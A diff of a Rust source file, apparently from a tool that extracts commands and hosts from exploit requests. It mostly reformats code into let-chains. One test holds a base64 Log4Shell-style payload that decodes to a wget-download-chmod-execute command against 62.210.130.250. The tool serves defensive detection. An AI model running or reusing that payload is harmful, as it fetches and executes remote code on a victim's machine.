@@ -56,11 +56,11 @@ pub fn parse_target(name: &str) -> Option<Target> {
 }
 
 fn split_host_port(a: &str) -> (&str, Option<u16>) {
-    if let Some(r) = a.strip_prefix('[') {
-        if let Some(end) = r.find(']') {
-            let port = r[end + 1..].strip_prefix(':').and_then(|p| p.parse().ok());
-            return (&r[..end], port);
-        }
+    if let Some(r) = a.strip_prefix('[')
+        && let Some(end) = r.find(']')
+    {
+        let port = r[end + 1..].strip_prefix(':').and_then(|p| p.parse().ok());
+        return (&r[..end], port);
     }
     match a.rsplit_once(':') {
         Some((h, p)) if !h.contains(':') => match p.parse() {
@@ -79,12 +79,13 @@ pub fn lenient_base64(s: &str) -> Option<Vec<u8>> {
         let b = s.as_bytes();
         let mut i = 0;
         while i < b.len() {
-            if b[i] == b'%' && i + 2 < b.len() {
-                if let (Some(h), Some(l)) = ((b[i + 1] as char).to_digit(16), (b[i + 2] as char).to_digit(16)) {
-                    out.push((h * 16 + l) as u8);
-                    i += 3;
-                    continue;
-                }
+            if b[i] == b'%'
+                && i + 2 < b.len()
+                && let (Some(h), Some(l)) = ((b[i + 1] as char).to_digit(16), (b[i + 2] as char).to_digit(16))
+            {
+                out.push((h * 16 + l) as u8);
+                i += 3;
+                continue;
             }
             out.push(b[i]);
             i += 1;
@@ -172,12 +173,13 @@ fn percent_decode(s: &str) -> String {
     let mut out = Vec::with_capacity(b.len());
     let mut i = 0;
     while i < b.len() {
-        if b[i] == b'%' && i + 2 < b.len() {
-            if let (Some(h), Some(l)) = ((b[i + 1] as char).to_digit(16), (b[i + 2] as char).to_digit(16)) {
-                out.push((h * 16 + l) as u8);
-                i += 3;
-                continue;
-            }
+        if b[i] == b'%'
+            && i + 2 < b.len()
+            && let (Some(h), Some(l)) = ((b[i + 1] as char).to_digit(16), (b[i + 2] as char).to_digit(16))
+        {
+            out.push((h * 16 + l) as u8);
+            i += 3;
+            continue;
         }
         out.push(b[i]);
         i += 1;
@@ -206,7 +208,8 @@ pub fn command_hosts(cmd: &str) -> Vec<String> {
             push(ip);
         }
         let prev = if i > 0 { tokens[i - 1] } else { "" };
-        let is_fetch = ["curl", "wget"].iter().any(|c| prev.ends_with(c)) || (i >= 2 && tokens[i - 2].ends_with("wget"));
+        let is_fetch =
+            ["curl", "wget"].iter().any(|c| prev.ends_with(c)) || (i >= 2 && tokens[i - 2].ends_with("wget"));
         if is_fetch && !tok.starts_with('-') && tok.contains('.') && find_ipv4(tok).is_empty() {
             push(tok.split('/').next().unwrap_or("").to_owned());
         }
@@ -305,7 +308,9 @@ fn is_local(h: &str) -> bool {
         return true;
     }
     match h.parse::<std::net::IpAddr>() {
-        Ok(std::net::IpAddr::V4(v4)) => v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified(),
+        Ok(std::net::IpAddr::V4(v4)) => {
+            v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
+        }
         Ok(std::net::IpAddr::V6(v6)) => v6.is_loopback() || v6.is_unspecified(),
         Err(_) => false,
     }
@@ -386,7 +391,9 @@ mod tests {
 
     #[test]
     fn commands() {
-        let c = exploit_commands("/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==");
+        let c = exploit_commands(
+            "/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==",
+        );
         assert_eq!(c.len(), 1);
         assert!(c[0].command.starts_with("wget http://62.210.130.250/"));
         assert_eq!(c[0].hosts, ["62.210.130.250"]);
